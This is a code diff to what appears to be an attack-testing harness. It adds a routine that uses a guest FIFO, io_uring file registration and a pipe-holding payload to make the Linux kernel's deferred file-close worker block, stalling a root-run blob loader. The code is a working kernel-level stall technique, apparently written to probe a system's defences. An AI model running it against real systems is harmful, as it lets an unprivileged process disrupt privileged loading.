@@ -10,11 +10,13 @@ from __future__ import annotations
 from contextlib import contextmanager
 from errno import EAGAIN, EPERM
 from functools import partial
-from os import O_NONBLOCK, O_RDONLY
+from os import O_NONBLOCK, O_RDONLY, O_RDWR
 from signal import SIGKILL
+from stat import S_IFIFO
 from typing import TYPE_CHECKING
 
 from harness.attacker.agent.errors import GuestError, NoTarget
+from harness.attacker.agent.files import File
 from harness.attacker.tools.bpf import BpfObject
 from harness.attacker.tools.fuse import SilentFile
 from harness.attacker.tools.perf import REMOVE_ON_EXEC, SIGTRAP, PerfEvent
@@ -36,6 +38,19 @@ MODULES_DISABLED = "/proc/sys/kernel/modules_disabled"
 PID_MAX = "/proc/sys/kernel/pid_max"
 LEAST_PIDS = b"301"
 """RESERVED_PIDS + 1 (kernel/pid.c), the minimum of the sysctl."""
+
+FIFO = "/tmp/fifo"  # noqa: S108 - the guest's, not ours
+CLOSED_LATER = 3
+"""The first ends keep the kernel's worker that closes files. The last is left for the loader."""
+HELD_SECONDS = 30
+"""Until the loader is loaded again, after the attack."""
+RING_ENDS_NS = 200_000_000
+"""The time of the guest in which the kernel ends a ring and puts its files."""
+SPLICE = b"275 "
+"""How /proc/<pid>/syscall begins for a process that waits in splice(2)."""
+URING_PARAMS = 120
+"""The size of struct io_uring_params (include/uapi/linux/io_uring.h)."""
+IORING_REGISTER_FILES = 2
 
 SNAPSHOT_FREEZE, SNAPSHOT_UNFREEZE = 0x3301, 0x3302
 STORM = 8
@@ -228,6 +243,37 @@ def acct_unanswered(attacker: Attacker, handler: Handler) -> None:
     attacker.syscall("acct", file.path)
     handler.restart()
     file.end()
+
+
+@_no_restart(
+    surface="delayed-fput",
+    reach="__x64_sys_io_uring_register",
+    target="system",
+    needs=("IO_URING",),
+    not_applicable=NO_BLOB,
+)
+def delayed_fput(attacker: Attacker, handler: Handler) -> None:
+    """Let the kernel close ends of a pipe whose lock root holds. Loading a blob waits for that."""
+    with attacker.setup():
+        hold = attacker.payload("hold_pipe")
+        attacker.syscall("mknod", FIFO, S_IFIFO | 0o600, 0)
+    rings = [_ring_with_fifo(attacker) for _ in range(CLOSED_LATER)]
+    with attacker.open(FIFO, O_RDWR) as pipe:
+        holder = attacker.spawn(hold, str(HELD_SECONDS), stdout=pipe.fd)
+    while not attacker.read_file(f"/proc/{holder}/syscall").startswith(SPLICE):
+        handler.wait_for_request()
+    for ring in rings:
+        ring.close()
+        handler.let_pass(RING_ENDS_NS)
+
+
+def _ring_with_fifo(attacker: Attacker) -> File:
+    """Return an io_uring that alone has the FIFO open. A thread of the kernel's ends the ring."""
+    ring = File(attacker, attacker.syscall("io_uring_setup", 1, bytearray(URING_PARAMS)))
+    with attacker.open(FIFO, O_RDWR) as pipe:
+        files = pipe.fd.to_bytes(4, "little")
+        attacker.syscall("io_uring_register", ring.fd, IORING_REGISTER_FILES, files, 1)
+    return ring
 
 
 _by_policy = partial(
